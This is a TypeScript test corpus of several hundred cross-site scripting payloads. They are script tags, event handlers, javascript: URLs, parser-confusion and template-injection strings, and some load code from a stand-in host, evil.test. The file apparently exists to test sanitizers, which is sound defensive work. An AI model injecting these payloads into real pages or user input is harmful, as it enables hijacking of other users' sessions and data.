/**
 * Texts that some browser, sanitizer or template has run as a script, from well-known collections. Each calls `alert`.
 */
const lines = String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<sCrIpT >alert(1)</sCrIpT >
<script/x>alert(1)</script>
<script/random>alert(1)</script/random>
<script	type="text/javascript">alert(1)</script	>
<script type="module">alert(1)</script>
<script type="text/ecmascript">alert(1)</script>
<script src="data:text/javascript,alert(1)"></script>
<script src=data:,alert(1)></script>
<script src="//evil.test/x.js"></script>
<script async src=https://evil.test/x.js></script>
<script>alert(1)<!--
<script>alert(1)//
<script><!--alert(1)</script>
<script>/*<script*/alert(1)</script>
<script x>alert(1)</script 1=2
<scr<script>ipt>alert(1)</scr</script>ipt>
<scr<!-- -->ipt>alert(1)</script>
<<script>alert(1);//<</script>
<<SCRIPT>alert(1)//<</SCRIPT>
<script>alert(document.domain)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</script><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</iframe><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!--[if true]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<IMG SRC=x ONERROR=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img """><script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src=javascript:alert(1)>
<img src=JaVaScRiPt:alert(1)>
<img src=javascript:alert(&quot;1&quot;)>
<img src="jav	ascript:alert(1);">
<img src="jav&#x09;ascript:alert(1);">
<img src="jav&#x0A;ascript:alert(1);">
<img src="jav&#x0D;ascript:alert(1);">
<img src=" &#14; javascript:alert(1);">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>
<img dynsrc="javascript:alert(1)">
<img lowsrc="javascript:alert(1)">
<img src=1 onload=alert(1) onerror=alert(1)>
<img srcset=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img src=x onerror=alert&lpar;1&rpar;>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror=window['al'+'ert'](1)>
<img src=x onerror=top["al\x65rt"](1)>
<img src=x onerror=location='javascript:alert\x281\x29'>
<img style="x:expression(alert(1))">
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script>
<svg><script>alert&lpar;1&rpar;</script></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<svg><script xlink:href=data:,alert(1)></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><a href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributename=x>
<svg><animatetransform onbegin=alert(1) attributename=transform>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><discard onbegin=alert(1)>
<svg><image href=x onerror=alert(1)>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<math href="javascript:alert(1)">x</math>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<style><style/><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing><img src=x onerror=alert(1)></listing>
<title><img title="</title><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<select><option><style></option></select><b><img src=x onerror=alert(1)></style></option></select>
<select><iframe></select><img src=x onerror=alert(1)></iframe>
<table><caption><img src=x onerror=alert(1)></caption></table>
<table><colgroup><img src=x onerror=alert(1)>
<frameset onload=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onfocus=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<body onscroll=alert(1)><br><br><br><input autofocus>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe src=javascript&colon;alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>
<iframe onload=alert(1)>
<iframe src="//evil.test"></iframe>
<frame src="javascript:alert(1)">
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object onerror=alert(1)>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<applet onerror=alert(1)>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video onloadstart=alert(1)><source>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<audio><source onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<input type=image src=x onerror=alert(1)>
<input type="image" src="javascript:alert(1)">
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<textarea autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>x</button>
<button popovertarget=x>x</button><xss popover onbeforetoggle=alert(1) id=x>x</xss>
<form action="javascript:alert(1)"><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form onsubmit=alert(1)><button>x</button></form>
<isindex type=image src=1 onerror=alert(1)>
<isindex action=javascript:alert(1) type=submit>
<details open ontoggle=alert(1)>
<details ontoggle=alert(1) open><summary>x</summary></details>
<dialog open onclose=alert(1)>x</dialog>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<div onmouseover=alert(1)>x</div>
<p onclick=alert(1)>x</p>
<p/onclick="alert(1)">x</p>
<h1 onwheel=alert(1)>x</h1>
<ul onpointerenter=alert(1)><li onfocusin=alert(1)>x</li></ul>
<b onbeforescriptexecute=alert(1)>x</b>
<blockquote onauxclick=alert(1) cite=javascript:alert(1)>x</blockquote>
<a onmouseover="alert(1)">x</a>
<xss onfocus=alert(1) autofocus tabindex=1>
<xss contenteditable onfocus=alert(1) autofocus>
<xss id=x style="transition:outline 1s" ontransitionend=alert(1) tabindex=1></xss>
<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>
<style>@import 'https://evil.test/x.css';</style>
<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</ul>
<style>body{-moz-binding:url("https://evil.test/x.xml#x")}</style>
<style type="text/javascript">alert(1)</style>
<link rel=stylesheet href="javascript:alert(1)">
<link rel=stylesheet href=https://evil.test/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href=https://evil.test/p>
<div style="background:url(javascript:alert(1))">x</div>
<div style="background:url(https://evil.test/x.png)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;inset:0;z-index:99999">x</div>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url=https://evil.test/">
<meta http-equiv="Content-Security-Policy" content="script-src 'none'">
<base href="javascript:alert(1)//">
<base href="https://evil.test/">
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1)>x</a>
<a href="JAVASCRIPT:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javas&Tab;cript:alert(1)">x</a>
<a href="javas&NewLine;cript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x2028;javascript:alert(1)">x</a>
<a href="javascript://%0Aalert(1)">x</a>
<a href="javascript:/*--></title></style></script><svg/onload=alert(1)>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="https:javascript:alert(1)">x</a>
<a href="https://x.test/&quot; onclick=&quot;alert(1)">x</a>
<a href="https://x.test/" onclick=alert(1) target=_self rel=opener>x</a>
<a href="mailto:a@x.test?body=<script>alert(1)</script>">x</a>
<a href="//evil.test/">x</a>
<a href="blob:https://x.test/1">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a ping=https://evil.test/ href=https://x.test/>x</a>
<a id=location href=https://evil.test/>x</a>
<map><area href="javascript:alert(1)" shape=default></map>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
" autofocus onfocus=alert(1) x="
"/><svg/onload=alert(1)>
'"()&%<acx><ScRiPt >alert(1)</ScRiPt>
javascript:alert(1)
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
jaVasCript:/*-/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>
data:text/html,<script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
<%= alert(1) %>
#{alert(1)}
{{7*7}}<x ng-app ng-csp>{{$on.constructor('alert(1)')()}}</x>
<x v-html="'<img src=x onerror=alert(1)>'"></x>
[x](javascript:alert(1))
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
&ltimg src=x onerror=alert(1)&gt
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<ımg src=x onerror=alert(1)>
<im​g src=x onerror=alert(1)>
‮<script>alert(1)</script>
<p id=template><p name=createElement>
<form id=document><input name=cookie><input name=body></form>
`.trim().split("\n");

const withBackticks = [
  "<script>alert`1`</script>",
  "<img src=x onerror=alert`1`>",
  "<img src=`javascript:alert(1)`>",
  "<img src=x onerror=Function`$${`alert\\x281\\x29`}$```>",
  "`-alert(1)-`",
  "${alert(1)}",
  "<svg onload=alert`1`>",
  "<a href=`x` onclick=alert(1)>x</a>",
];

export const xssCorpus: readonly string[] = [...lines, ...withBackticks];
/** The texts that are valid names. Control characters are not. */
export const xssNames: readonly string[] = xssCorpus.filter((text) => !/\p{Cc}/u.test(text));
